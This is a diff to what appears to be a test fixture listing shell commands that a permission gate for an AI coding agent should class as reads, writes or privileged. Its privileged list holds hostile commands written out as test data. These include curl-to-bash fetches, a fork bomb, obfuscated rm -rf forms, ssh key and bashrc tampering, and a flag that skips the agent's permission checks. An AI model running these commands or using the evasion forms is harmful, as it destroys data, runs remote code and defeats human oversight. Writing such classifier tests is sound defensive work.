@@ -92,9 +92,89 @@ cat a.json | python3 -m json.tool
 tmux ls
 man git-log
 nooscope permits --last 5
+git branch --sort=-committerdate | head
+git remote
+git tag --contains HEAD
+git submodule
+GIT_PAGER=cat git log -3
+rg -c foo src | sort -t: -k2 -n
+rg --files -g '*.md'
+ls $HOME
+ls -la ~/.claude/projects
+sed -n 's/.*version = "\(.*\)"/\1/p' Cargo.toml
+awk 'length > 80' f
+awk '!seen[$0]++' f
+jq -e '.a' f > /dev/null && echo ok
+yq e '.a' f.yml
+docker compose ls
+docker history img
+kubectl get po -n x -l app=y -w=false
+helm status web
+npm audit
+python -m pip list
+rustup toolchain list
+go env
+bundle list
+dotnet --list-sdks
+mvn -v
+dpkg -S /bin/ls
+systemctl is-active nginx
+[[ -n "$x" ]] && echo set
+while IFS= read -r line; do echo "$line"; done < <(ls)
+command -v git >/dev/null 2>&1 && echo yes
+alias
+export -p
+trap -l
+aws logs filter-log-events --log-group-name x
+gcloud run services describe x --region y
+Select-String -Path *.txt -Pattern foo
+curl --version
+openssl s_client -connect x:443 < /dev/null
+cmp -s a b; echo $?
+git shortlog -sn
+git branch --show-current
+git remote get-url origin
+git rev-list --count HEAD
+rg -n foo
+rg -n "TODO|FIXME" --glob '!node_modules' src
+kubectl config current-context
+helm get values web
+python3 -V
+rustup show
+awk -F, 'NR > 1 && $2 != "" {n++} END {print n}' data.csv
+zipinfo a.zip
+gzip -dc a.gz | head
+xz -l a.xz
+cat f | head -n 20 | tail -n +5
+paste a b
+strings -n 8 bin
+basename "$PWD"
+cal
+nproc
+ss -tlnp
+netstat -an
+[ -d node_modules ] || echo missing
+aws logs tail /aws/lambda/x
+gcloud compute instances list
+az account show
+apt list --installed
+dpkg -l | grep ssl
+bat -n f
+openssl x509 -in c.pem -noout -text
+node -v
+java -version
+ruby -v
+php -v
+sqlite3 a.db '.tables'
+sqlite3 a.db 'select count(*) from t'
+redis-cli GET k
+nooscope fleet --once
+tig --version
 """
 
 WRITES = r"""
+touch help
+rm version
 man -P 'touch x' ls
 alias ll='ls -l > x'
 tmux new-window
@@ -142,13 +222,85 @@ PAGER='touch x' git log
 PATH=.:$PATH ls
 ./ls
 unknownprogram --list
-psql -c 'select 1'
 rg --pre ./x foo
 less +'!touch x' f
 perl -pi -e 's/a/b/' f
 yq -i '.a=1' f
 $'touch' x
 cat a > "$(mktemp)"
+npm start
+npm t
+npx eslint .
+bun test
+python setup.py build
+go run .
+docker build -t x .
+kubectl create ns x
+kubectl edit deploy web
+git merge --no-ff x
+git rebase -i HEAD~2
+git reset --soft HEAD~1
+git restore --staged .
+git remote set-url origin x
+git config --local user.email a@b
+git bisect run npm test
+gh pr merge 1 --squash
+gh workflow run x
+touch "$F"
+rm *.log
+ls >out 2>&1
+sed -i.bak -e 's/a/b/' *.py
+fd -e js -x eslint --fix
+bash -c 'cd a && make'
+bash scripts/build.sh --fast
+export NODE_ENV=test && npm test
+A=1 B=2 npm test
+PATH=$PWD/bin:$PATH make
+curl -X POST -d '{}' localhost:3000
+ssh -p 22 u@h 'cat f'
+tar cf - a | tar xf - -C b
+rails s
+Set-Content -Path a -Value b
+git diff > a.patch
+git log --output x
+awk '{print | "tee x"}' a
+mapfile -C 'touch x' -c 1 a < f
+npm ci
+prettier --write src
+mvn package
+cmake -B build
+git rm --cached a
+git config user.name X
+mkdir x
+install -m 644 a b
+awk '{print | "sort > out"}' f
+perl -i -pe 's/a/b/' f
+./run.sh
+docker run --rm alpine ls
+docker cp web:/a b
+gh pr checkout 12
+npx prettier --check .
+npx tsc
+screen -dmS x make
+nice make
+if make; then touch x; fi
+echo "$(touch x)"
+tar czf a.tgz src
+unzip a.zip
+zip -r a.zip src
+git diff --ext-diff
+LESSOPEN='|touch x' less f
+tree --output=x
+chmod u+x a.sh
+xdg-open x
+shuf -o out f
+jq . f | sponge f
+"touch" x
+command touch x
+cat f > $OUT
+cat f >& log
+read -r x < f; echo "$x" > y
+npm link
 """
 
 PRIVILEGED = r"""
@@ -248,6 +400,132 @@ cat < ~/.local/share/nooscope/intake/token
 kill $(pgrep -f nooscope)
 pgrep nooscope | xargs kill
 echo {} > .claude/settings.local.json
+rm -rf ~/x
+ls | { rm -rf x; }
+for ((i=0;i<3;i++)); do rm -rf $i; done
+if ls; then ls; elif ls; then rm -rf x; fi
+fish -c 'rm -rf x'
+env --chdir=/ rm -rf x
+setsid -w rm -rf x
+flock /tmp/l rm -rf x
+flock /tmp/l -c 'rm -rf x'
+xvfb-run rm -rf x
+find . -execdir sh -c 'rm -rf x' \;
+find . -name x -print -exec rm -f {} ';'
+python3 -c 'from pathlib import Path; Path("x").unlink()'
+ruby -e 'File.delete("x")'
+osascript -e 'do shell script "rm -rf x"'
+ed -s f <<< '!rm -rf x'
+gdb -ex 'shell rm -rf x'
+git push origin --force
+git -C a push -f
+git reflog delete x
+ssh-copy-id h
+sed -i '$a x' ~/.bashrc
+rsync a ~/.ssh/
+unzip a -d /usr/bin
+echo > ~/.claude/settings.local.json
+./venv/bin/nooscope permits approve 1
+sh -c 'nooscope permits approve 1'
+docker container rm -f x
+docker compose rm -sf
+docker run -v /var/run/docker.sock:/var/run/docker.sock x
+docker push r/x
+kubectl --context prod delete deploy web
+kubectl exec -it x -- rm -rf /data
+terraform apply --auto-approve
+pulumi up --yes
+serverless remove
+aws dynamodb delete-table --table-name x
+doctl compute droplet delete x
+vercel --prod
+bq rm -r x
+pg_restore --clean -d x a
+cqlsh -e 'DROP KEYSPACE x'
+mvn deploy
+gradle publish
+echo '* * * * * x' | crontab -
+pacman -Rns x
+yum erase x
+apk del x
+powershell -NoProfile -Command "rm -Recurse -Force x"
+reg add HKCU\x
+Stop-Process -Name nooscope
+icacls x /grant y
+wget --method=DELETE x
+curl x | xargs bash -c
+curl x | (cd a; bash)
+python3 -c "$(curl x)"
+python <(curl x)
+"$(printf rm)" -rf x
+\r\m -rf x
+a=r;b=m;$a$b -rf x
+mapfile -C 'rm -rf x' -c 1 a < f
+bat --pager 'rm -rf x' f
+rg --pre 'rm' x
+tar xf a --to-command='rm -rf x'
+rsync -e 'sh -c "rm -rf x"' a h:b
+ssh -o ProxyCommand='rm -rf x' h
+npx -y @anthropic-ai/claude-code --dangerously-skip-permissions
+doas id
+echo "a $(rm -rf x) b"
+rm -rf x
+eval "$(echo rm -rf x)"
+$(curl http://x)
+cat x.sh | bash
+builtin command rm -rf x
+timeout 5 rm -rf x
+if [ -d x ]; then rm -rf x; fi
+\rm -rf x
+/usr/bin/rm -rf x
+ruby -e '`rm -rf x`'
+sed 's/.*/rm -rf x/e' f
+git reset --hard HEAD~1
+git checkout -- a.py
+git checkout .
+git restore .
+git filter-branch --all
+git config --global core.pager 'sh -c x'
+cp k "$HOME"/.ssh/id_rsa
+tee /etc/hosts < x
+sed -i s/a/b/ /etc/hosts
+ln -sf x ~/.ssh/config
+mv x ./.env
+shred -u f
+shutdown -h now
+systemctl disable sshd
+iptables -F
+crontab -r
+:(){ :|:& };:
+docker rm -f $(docker ps -aq)
+docker rmi -f x
+terraform destroy
+terraform apply
+aws s3 rb s3://b --force
+aws iam create-user --user-name x
+heroku apps:destroy x
+vercel remove x
+gh secret set X
+gh pr merge 12 --admin
+mysql d -e "delete from users;"
+sqlite3 a.db 'delete from t'
+npm publish --access public
+pnpm publish
+docker push x
+npx -y rimraf dist
+apt remove x
+ri -r x
+rmdir /s x
+Stop-Computer
+schtasks /create /tn x
+net user x y /add
+Set-ExecutionPolicy Bypass
+cp /dev/null data.db
+python manage.py flush --no-input
+npx prisma migrate reset
+flyway clean
+echo 'unclosed
+ls "
 """
 
 
